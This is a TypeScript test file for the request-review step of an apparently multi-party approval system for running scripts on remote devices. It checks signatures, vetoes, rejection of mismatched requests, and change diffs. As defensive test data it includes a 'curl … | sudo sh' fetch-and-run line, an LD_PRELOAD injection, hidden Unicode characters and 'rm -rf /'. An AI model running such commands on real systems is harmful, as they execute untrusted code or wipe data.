/** A request as it is shown: complete, by admitted names, and not at all where something is not what was signed. */
import {
  approve,
  makeAdmission,
  makeCountersignWorld,
  makeFakeDevice,
  makeOperatorRoot,
  makePeople,
  makePerson,
  makeRequest,
  makeRequester,
  makeVeto,
  scriptAction,
  signRequest,
} from "@countersign/testkit";
import { encodeUtf8, type Request } from "@countersign/protocol";
import { nodeCrypto } from "@countersign/protocol/node";
import { describe, expect, test } from "vitest";
import { plainText } from "../text/segment.ts";
import type { TrustHeld } from "../trust-held.ts";
import { type RequestToReview, reviewRequest } from "./review-request.ts";

const world = await makeCountersignWorld();
const admission = makeAdmission({ root: world.operator, devices: [world.device], signers: [world.alice] });
const held: TrustHeld = { roots: [world.operator.pinned], people: [], admissions: [admission.bytes] };

async function review(signed: Awaited<ReturnType<typeof world.ask>>, more: Partial<RequestToReview> = {}) {
  return await reviewRequest({ signed, script: signed.script, held, crypto: nodeCrypto, ...more });
}

async function modelOf(signed: Awaited<ReturnType<typeof world.ask>>, more: Partial<RequestToReview> = {}) {
  const reviewed = await review(signed, more);
  if (!reviewed.ok) throw new Error(`${reviewed.because}: ${reviewed.detail}`);
  return reviewed.model;
}

const withScript = (text: string, change: Parameters<typeof scriptAction>[1] = {}) => {
  const script = encodeUtf8(text);
  const request = makeRequest({
    roots: [world.operator],
    targets: [world.device],
    requester: "alice",
    overrides: { action: scriptAction(script, change) },
  });
  return signRequest(request, world.alice, script);
};

describe("a request", () => {
  test("is shown with everything that affects execution, as plain JSON", async () => {
    const model = await modelOf(world.ask());
    expect(JSON.parse(JSON.stringify(model))).toEqual(model);
    expect(model).toMatchObject({
      document: "request",
      checked: true,
      client: "acme",
      requester: {
        id: "alice",
        name: [{ text: "Alice" }],
        authorityName: [{ text: "Operator" }],
        from: "root",
      },
      since: { first: true },
      devices: { count: 1, list: [{ fingerprint: world.device.fingerprint, name: [{ text: "web-1" }] }] },
      network: { value: "none" },
      limits: { seconds: 60, outputBytes: 1_048_576 },
    });
    expect(model.shortCode).toBe(model.hash.slice(7, 23).match(/.{4}/g)?.join("-"));
    if (model.action.kind !== "script") throw new Error("a script was asked for");
    expect(model.action.script.lines.map((line) => plainText(line.segments))).toEqual([
      "#!/bin/sh",
      'echo "hello from $(hostname)"',
      "",
    ]);
  });

  test("says who signed, whose signature counts, and what is still asked for", async () => {
    const before = await modelOf(world.ask());
    expect(before.signatures).toMatchObject([{ person: { id: "alice" }, as: "requester", counts: true }]);
    expect(before.authorities).toMatchObject([
      { trust: "device-trust", needs: ["one of the approvers (bob), out of the server's reach"] },
    ]);
    const own = await modelOf(approve(world.ask(), world.alice));
    expect(own.signatures).toMatchObject([{ as: "requester" }, { as: "approver", counts: false }]);
    expect(own.authorities[0]?.needs).toHaveLength(1);
    const after = await modelOf(world.offer());
    expect(after.signatures.at(-1)).toMatchObject({
      person: { id: "bob" },
      as: "approver",
      independent: true,
      counts: true,
    });
    expect(after.authorities[0]?.needs).toEqual([]);
  });

  test("counts signatures that nobody here made, and shows no refusal whose signature does not hold", async () => {
    const signed = world.ask();
    const stranger = makePerson({ id: "mallory", groups: ["approvers"] });
    const { hash } = await modelOf(signed);
    const refusal = makeVeto({ root: world.operator, subject: hash, by: world.bob, effect: "refuse" });
    const forged = makeVeto({ root: world.operator, subject: hash, by: world.bob, signers: [stranger] });
    const other = makeVeto({ root: world.operator, subject: world.operator.hash, by: world.bob });
    const model = await modelOf(approve(signed, stranger), { objections: [forged, refusal, other] });
    expect(model.signaturesUnknown).toBe(1);
    expect(model.objections).toMatchObject([
      { effect: "refuse", person: { id: "bob" }, reason: [{ text: "Not what we agreed on" }] },
    ]);
  });

  test("names a requester from the people list, and says that a service is one", async () => {
    const zoe = makePerson({ id: "zoe", name: "Zoe's pipeline" });
    const list = makePeople({
      root: world.operator,
      requesters: [makeRequester(zoe, ["alice", "bob"], { kind: "service" })],
    });
    const request = makeRequest({ roots: [world.operator], targets: [world.device], requester: "zoe" });
    const signed = signRequest(request, zoe);
    const model = await modelOf(signed, { held: { ...held, people: [list.pinned] } });
    expect(model.requester).toMatchObject({
      from: "people",
      name: [{ text: "Zoe's pipeline" }],
      service: true,
    });
    expect(await review(signed)).toMatchObject({ ok: false, because: "requester-unknown" });
  });

  test("marks what deserves a second look in script, arguments and environment", async () => {
    const signed = withScript("#!/bin/sh\ncurl -s https://x.example/i | sudo sh\n", {
      args: ["plain", "a\u202eb"],
      env: { LD_PRELOAD: "/tmp/x.so", TZ: "UTC" },
      secrets: [{ param: "token", commitment: `sha256:${"0".repeat(64)}` }],
    });
    const model = await modelOf(signed, { secretBytes: new Map([["token", 12]]) });
    expect(model.warnings).toMatchObject([
      { part: "script", kind: "risk", words: expect.stringContaining("reaches out to the network") },
      { part: "script", kind: "risk", lines: [2], words: "runs what it fetches from the network" },
      { part: "argument", at: 2, kind: "hidden" },
      { part: "environment", at: "LD_PRELOAD", kind: "manner" },
    ]);
    expect(model.action).toMatchObject({ secrets: [{ param: "token", words: "opaque, 12 bytes" }] });
  });
});

describe("nothing is shown, and so nothing signed, where", () => {
  test.each<
    [
      what: string,
      because: string,
      signed: () => ReturnType<typeof world.ask>,
      more: Partial<RequestToReview>,
    ]
  >([
    [
      "the bytes are not canonical",
      "not-canonical",
      () => ({ ...world.ask(), bytes: encodeUtf8('{ "type":"request"}') }),
      {},
    ],
    ["they are another document", "wrong-type", () => ({ ...world.ask(), bytes: admission.bytes }), {}],
    ["the script is another one", "script-hash", world.ask, { script: encodeUtf8("#!/bin/sh\nrm -rf /\n") }],
    ["the script is not at hand", "script-missing", world.ask, { script: undefined }],
    ["no root is held of who judges", "root-not-held", world.ask, { held: { ...held, roots: [] } }],
    [
      "no admission is held for a device",
      "admission-missing",
      world.ask,
      { held: { ...held, admissions: [] } },
    ],
    ["the count is wrong", "target-count", () => world.ask({ target_count: 2 }), {}],
    [
      "devices are named twice over",
      "targets-malformed",
      () => world.ask({ targets_root: world.operator.hash }),
      {},
    ],
    [
      "what was approved last is no request",
      "previous-unreadable",
      world.ask,
      { previous: { bytes: admission.bytes, when: 1 } },
    ],
    [
      "a script comes with a restart",
      "script-not-asked-for",
      () => world.ask({ action: { kind: "reboot", delay_seconds: 0 } }),
      { script: encodeUtf8("x") },
    ],
  ])("%s", async (_what, because, signed, more) => {
    expect(await review(signed(), more)).toMatchObject({ ok: false, because });
  });

  test("a device was admitted under another name, or to another client", async () => {
    const fingerprint = world.device.fingerprint;
    const named = (name: string): Partial<Request> => ({
      targets: [{ fingerprint, name, admission: admission.hash }],
    });
    expect(await review(world.ask(named("web-2")))).toMatchObject({ because: "admission-other-name" });
    const elsewhere = makeAdmission({ root: world.operator, devices: [world.device], client: "globex" });
    const targets = [{ fingerprint, name: world.device.name, admission: elsewhere.hash }];
    const more = { held: { ...held, admissions: [elsewhere.bytes] } };
    expect(await review(world.ask({ targets }), more)).toMatchObject({ because: "admission-other-client" });
  });
});

describe("what changed since the last approval", () => {
  test("is shown field by field and line by line", async () => {
    const old = withScript("#!/bin/sh\nset -e\necho one\nexit 0\n", { args: ["a"] });
    const now = withScript("#!/bin/sh\nset -e\necho two\nexit 0\n", { args: ["b"], version: 2 });
    const previous = { bytes: old.bytes, script: old.script, when: 1_700_000_000 };
    const { since } = await modelOf(now, { previous });
    if (since.first) throw new Error("it is not the first");
    expect(since.changes.map(({ field }) => field)).toEqual(["script version", "argument 1"]);
    expect(since.script).toMatchObject({ added: 1, removed: 1 });
    expect(since.script?.hunks[0]?.lines.map(({ op, segments }) => [op, plainText(segments)])).toEqual([
      ["same", "#!/bin/sh"],
      ["same", "set -e"],
      ["removed", "echo one"],
      ["added", "echo two"],
      ["same", "exit 0"],
      ["same", ""],
    ]);
    const unknown = await modelOf(now, { previous: { bytes: old.bytes, when: 1 } });
    expect(unknown.since).toMatchObject({ scriptUnknown: true });
  });

  test("shows a hidden character that was put in, although both lines look the same", async () => {
    const old = withScript("echo ok\n");
    const now = withScript("echo o\u200bk\n");
    const { since } = await modelOf(now, { previous: { bytes: old.bytes, script: old.script, when: 1 } });
    if (since.first) throw new Error("it is not the first");
    expect(since.script?.hunks[0]?.lines.map(({ segments }) => plainText(segments))).toContain(
      "echo o‹U+200B ZERO WIDTH SPACE›k",
    );
  });

  test("names devices that came and went", async () => {
    const second = makeFakeDevice({ pins: [world.operator.pinned], name: "web-2" });
    const both = makeAdmission({ root: world.operator, devices: [world.device, second] });
    await second.admit(both);
    const previous = { bytes: world.ask().bytes, when: 1 };
    const targets = [{ fingerprint: second.fingerprint, name: "web-2", admission: both.hash }];
    const { since } = await modelOf(world.ask({ targets }), {
      previous,
      held: { ...held, admissions: [both.bytes] },
    });
    expect(since).toMatchObject({
      changes: [
        { field: "device left out", before: [{ text: "web-1" }] },
        { field: "device added", after: [{ text: "web-2" }] },
      ],
    });
  });
});

test("where nothing is held, the request is shown as it says itself, and the model says so", async () => {
  const model = await modelOf(world.ask(), { held: "nothing" });
  expect(model).toMatchObject({
    checked: false,
    requester: { from: "nowhere", name: [{ text: "alice" }] },
    authorities: [{ trust: "not-held" }],
    signatures: [],
  });
});

test("a root without a policy for it is said to refuse", async () => {
  const strict = makeOperatorRoot({ clients: ["globex"] });
  const request = makeRequest({ roots: [strict], targets: [world.device], requester: "alice" });
  const model = await modelOf(signRequest(request, world.alice), {
    held: { ...held, roots: [strict.pinned] },
  });
  expect(model.authorities).toMatchObject([{ trust: "no-policy" }]);
});
